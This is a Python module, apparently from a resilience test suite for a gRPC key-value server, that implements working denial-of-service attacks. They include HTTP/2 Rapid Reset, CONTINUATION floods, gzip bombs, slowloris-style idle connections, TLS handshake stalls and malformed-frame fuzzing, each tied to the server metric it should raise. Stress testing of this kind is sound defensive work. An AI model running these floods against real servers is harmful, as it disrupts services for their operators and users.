"""What hostile clients do. Each attack runs in a process of its own until its time is over, and
goes on when the server cuts it off: with new connections, as an attacker would.

An attack is a function of a Target and a deadline (time.monotonic()), and returns its Load. However
short it is, each of its steps is tried once.
"""

import contextlib
import dataclasses
import gzip
import itertools
import os
import random
import select
import socket
import ssl
import time
import typing

import http2_client
import kv_messages
from http2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_FRAME,
                          announced, frame, framed, header, request_headers)
from kv_messages import SERVICE, field
from metrics_page import sample

ATTACKS = {}  # by name
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
ADMIN = "/lodgekv.v1.AdminService/"
# Not the address of the well-behaved client: a peer that is disconnected too often is refused.
SOURCE = "127.0.0.2"
SECONDS = 20  # that a server may keep a connection waiting


@dataclasses.dataclass
class Target:
    data: str
    admin: str
    health: str
    metrics: str


@dataclasses.dataclass
class Load:
    """What an attack has done to the server, 0 if nothing, and a line that says it."""
    done: int
    line: str


@dataclasses.dataclass
class Attack:
    run: typing.Callable[[Target, float], Load]
    trace: str  # the metric of the server that it raises
    over_tls: bool


def attack(trace, *, over_tls=False):
    def enter(function):
        ATTACKS[function.__name__.replace("_", " ")] = Attack(function, trace, over_tls)
        return function
    return enter


def accepted(port):
    return sample("connections_accepted_total", port=port)


def ended(port, reason):
    return sample("connections_ended_total", port=port, reason=reason)


def answered(rpc, code):
    return sample("rpc_latency_seconds_count", rpc=rpc, code=code)


def until(deadline):
    """At least once, so that the shortest attack is one."""
    yield
    while time.monotonic() < deadline:
        yield


def dial(address):
    return http2_client.connect(address, SOURCE, 5)


def connection(address, **options):
    one = http2_client.Client(address, SOURCE, seconds=SECONDS, **options)
    one.await_acknowledgement()
    return one


def keep(most, make, is_gone, deadline):
    """Holds so many, and replaces those that the server ends. How many were made."""
    held, made = [], 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            for _ in until(deadline):
                if len(held) >= most:
                    break
                held.append(make())
                made += 1
        held = [one for one in held if not is_gone(one)]
        time.sleep(0.05)
    return made


def with_calls(address, count, path, payload, **options):
    """A connection with so many calls under way."""
    one = connection(address, **options)
    for _ in range(count):
        one.request(path, payload)
    return one


# --- connections ---

@attack(accepted("data"))
def bare_connections(target, deadline):
    """Opened and left alone; one that is cut is replaced."""
    made = keep(1_100, lambda: dial(target.data), is_cut, deadline)
    return Load(made, f"{made:,} connections without a byte, at most 1,100 at a time")


def is_cut(one):
    """Whether the server has closed the connection; what it said is thrown away."""
    poll = select.poll()
    poll.register(one, select.POLLIN)
    try:
        while poll.poll(0):
            if one.recv(1 << 16) == b"":
                return True
    except OSError:
        return True
    return False


@attack(accepted("data"))
def connections_one_after_another(target, deadline):
    opened = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            dial(target.data).close()
            opened += 1
    return Load(opened, f"{opened:,} connections opened and closed")


@attack(accepted("data"))
def callers_who_never_leave(target, deadline):
    """A call on each connection, which is then kept."""
    get = kv_messages.get(b"key")
    made = keep(900, lambda: with_calls(target.data, 1, SERVICE + "Get", get, reads=False),
                lambda one: is_cut(one.socket), deadline)
    return Load(made, f"{made:,} connections with one Get each, kept open")


# --- handshakes ---

def any_server():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def client_hello():
    """The first bytes of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        any_server().wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


@attack(accepted("data"), over_tls=True)
def client_hellos_and_then_nothing(target, deadline):
    hello = client_hello()

    def make():
        one = dial(target.data)
        one.sendall(hello)
        return one

    made = keep(1_100, make, is_cut, deadline)
    return Load(made, f"{made:,} connections that stop after their ClientHello, "
                      "at most 1,100 at a time")


@attack(accepted("data"), over_tls=True)
def whole_handshakes_one_after_another(target, deadline):
    context, made = any_server(), 0
    for _ in until(deadline):
        with contextlib.suppress(OSError), dial(target.data) as one:
            context.wrap_socket(one).close()
            made += 1
    return Load(made, f"{made:,} handshakes")


# --- what gRPC holds before anybody is asked ---

def flood(target_address, deadline, first, chunk):
    times, connections = repeat(target_address, deadline, first, itertools.repeat(chunk))
    sent = times * len(chunk)
    return Load(sent, f"{sent / 1e6:,.0f} MB over {connections:,} connections")


def repeat(target_address, deadline, first, chunks):
    """Sends a chunk over and over; a connection that is cut is replaced, and sends the next chunk.
    How often, and over how many."""
    times = connections = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            one, chunk = connection(target_address), next(chunks)
            connections += 1
            one.send(first)
            for _ in until(deadline):
                one.send(chunk)
                times += 1
    return times, connections


def continuation_flood(address, deadline):
    block = header(b"x", b"y" * 100) * 150
    first = frame(HEADERS, 0, 1, request_headers(SERVICE + "Get"))
    return flood(address, deadline, first, frame(CONTINUATION, 0, 1, block) * 16)


@attack(accepted("data"))
def continuation_flood_on_the_data_port(target, deadline):
    return continuation_flood(target.data, deadline)


@attack(accepted("health"))
def continuation_flood_on_the_health_port(target, deadline):
    return continuation_flood(target.health, deadline)


@attack("header_blocks_too_large_total")
def a_header_without_end(target, deadline):
    """One string, announced with 16 MiB, in CONTINUATION frames."""
    begun = b"\x00\x01x" + http2_client.integer(16 << 20)
    first = frame(HEADERS, 0, 1, request_headers(SERVICE + "Get") + begun)
    return flood(target.data, deadline, first, frame(CONTINUATION, 0, 1, b"y" * MAX_FRAME) * 4)


@attack(ended("data", "frames"))
def frames_of_no_request(target, deadline):
    """Each connection with one kind of them, from the worst on."""
    at_once = 1_000
    kinds = itertools.cycle(reversed(http2_client.FRAMES_OF_NO_REQUEST.values()))
    times, connections = repeat(target.data, deadline, b"", (kind * at_once for kind in kinds))
    sent = times * at_once
    return Load(sent, f"{sent:,} frames over {connections:,} connections")


@attack(ended("data", "unfinished"))
def announced_and_unfinished_messages(target, deadline):
    """Streams that each send of the largest batch what the windows let through, but its end."""
    size = 5 << 20
    streams = sent = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError), connection(target.data) as client:
            numbers = [client.start_call(SERVICE + "BatchWrite")
                       for _ in range(min(120, client.max_streams))]
            streams += len(numbers)
            for number in numbers:
                client.send(frame(DATA, 0, number, announced(size)))
            left = dict.fromkeys(numbers, size - 1)
            for _ in until(deadline):
                if client.ended is not None:
                    break
                moved = 0
                for number in numbers:
                    moved += (part := client.send_data(number, left[number]))
                    left[number] -= part
                sent += moved
                time.sleep(0 if moved else 0.02)
    return Load(sent, f"{streams:,} streams, {sent / 1e6:,.0f} MB")


@attack(accepted("data"))
def gzip_bombs(target, deadline):
    bomb = framed(gzip.compress(b"\0" * (256 << 20), 9), compressed=True)
    calls = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            one = connection(target.data)
            one.send_all(one.start_call(SERVICE + "Put", grpc_encoding="gzip"), bomb)
            calls += 1
            time.sleep(0.3)
            one.close()
    return Load(calls, f"{calls:,} messages of {len(bomb) / 1e6:.1f} MB that inflate to 256 MiB")


@attack(answered("BatchWrite", "INVALID_ARGUMENT"))
def batches_of_nothing(target, deadline):
    """5.3 MB of operations without a byte in them."""
    payload = field(1, b"") * (5_300_000 // 2)
    calls = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            one = connection(target.data)
            for _ in until(deadline):
                one.request(SERVICE + "BatchWrite", payload)
                calls += 1
                time.sleep(0.05)
    return Load(calls, f"{calls:,} batches of 2,650,000 empty operations")


# --- resets ---

def rapid_reset(address, path, deadline):
    block = request_headers(path)
    streams = connections = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            one = connection(address)
            connections += 1
            for _ in until(deadline):
                parts = []
                for _ in range(64):
                    number = next(one.streams)
                    parts.append(frame(HEADERS, END_HEADERS | END_STREAM, number, block))
                    parts.append(http2_client.reset(number))
                one.send(b"".join(parts))
                streams += 64
    return Load(streams, f"{streams:,} streams reset over {connections:,} connections")


@attack(ended("data", "resets"))
def rapid_reset_of_gets(target, deadline):
    return rapid_reset(target.data, SERVICE + "Get", deadline)


@attack(ended("data", "resets"))
def rapid_reset_of_unknown_methods(target, deadline):
    return rapid_reset(target.data, "/no.such.Service/Method", deadline)


@attack(ended("data", "resets"))
def rapid_reset_of_reflection(target, deadline):
    return rapid_reset(target.data, REFLECTION, deadline)


@attack(ended("health", "resets"))
def rapid_reset_of_health(target, deadline):
    return rapid_reset(target.health, HEALTH_CHECK, deadline)


@attack(ended("admin", "resets"))
def rapid_reset_on_the_admin_port(target, deadline):
    return rapid_reset(target.admin, ADMIN + "Status", deadline)


# --- work ---

@attack(answered("Scan", "CANCELLED"))
def scans_that_nobody_reads(target, deadline):
    """Three hundred, over twenty connections whose windows are open and whose sockets are full."""
    made = keep(20, lambda: with_calls(target.data, 15, SERVICE + "Scan", b"", reads=False,
                                       window=(1 << 31) - 1, receive_buffer=4_096),
                is_reset, deadline)
    return Load(made, f"{made * 15:,} Scans over {made:,} connections, at most 20 at a time")


def is_reset(one):
    """Whether the server has reset the connection; there is always something to read."""
    return one.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0


@attack(accepted("data"))
def answers_that_nobody_takes(target, deadline):
    """8,200 Gets with a window of nothing."""
    held, calls = [], 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            if len(held) < 41:
                one = connection(target.data, window=0)
                for _ in range(200):
                    one.request(SERVICE + "Get", kv_messages.get(b"key000000"))
                    calls += 1
                held.append(one)
                continue
            time.sleep(0.5)
            held.pop(random.randrange(len(held))).close()
    return Load(calls, f"{calls:,} Gets, at most 8,200 at a time")


def batches(target, deadline, payload):
    calls = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            one = connection(target.data)
            for _ in until(deadline):
                one.request(SERVICE + "BatchWrite", payload)
                calls += 1
    return calls


@attack(answered("BatchWrite", "INVALID_ARGUMENT"))
def batches_over_the_limit(target, deadline):
    calls = batches(target, deadline, field(1, field(2, b"k")) * 8_193)
    return Load(calls, f"{calls:,} batches of 8,193 operations")


@attack(answered("BatchWrite", "INVALID_ARGUMENT"))
def batches_with_a_wrong_end(target, deadline):
    """All of each is parsed before its last operation, without a key, shows the error."""
    right = kv_messages.batch_of_empty_puts(b"key%06d" % n for n in range(1_023))
    calls = batches(target, deadline, right + field(1, kv_messages.PUT_KIND))
    return Load(calls, f"{calls:,} batches whose 1,024th operation is wrong")


@attack(accepted("admin"))
def streams_of_reflection(target, deadline):
    def make():
        one = connection(target.admin)
        for _ in range(60):
            one.start_call(REFLECTION)
        return one

    made = keep(8, make, lambda one: False, deadline)
    return Load(made, f"{made * 60:,} streams of reflection kept open on the admin port")


@attack(accepted("admin"))
def checks_in_a_loop(target, deadline):
    """Eight at a time."""
    held = [connection(target.admin) for _ in range(8)]
    calls = 0
    for _ in until(deadline):
        with contextlib.suppress(OSError):
            for one in held:
                one.request(ADMIN + "Check")
                calls += 1
        time.sleep(0.01)
    return Load(calls, f"{calls:,} Checks over 8 connections")


@attack(ended("metrics", "made_room"))
def idle_connections_of_the_metrics(target, deadline):
    made = keep(200, lambda: dial(target.metrics), is_cut, deadline)
    return Load(made, f"{made:,} connections that ask nothing on the metrics' port, "
                      "at most 200 at a time")


# --- nonsense ---

@attack(accepted("health"))
def malformed_frames(target, deadline):
    """Random kinds, flags, lengths and bytes behind a good preface, and without one."""
    rng = random.Random(7)
    connections = 0
    for _ in until(deadline):
        for address in (target.data, target.admin, target.health, target.metrics):
            with contextlib.suppress(OSError):
                one = connection(address) if rng.random() < 0.8 else None
                raw = one.socket if one else dial(address)
                connections += 1
                for _ in range(rng.randrange(1, 20)):
                    payload = os.urandom(rng.randrange(0, 200))
                    raw.sendall(frame(rng.randrange(0, 12), rng.randrange(256),
                                      rng.randrange(0, 9), payload))
                (one or raw).close()
    return Load(connections, f"{connections:,} connections with random frames")
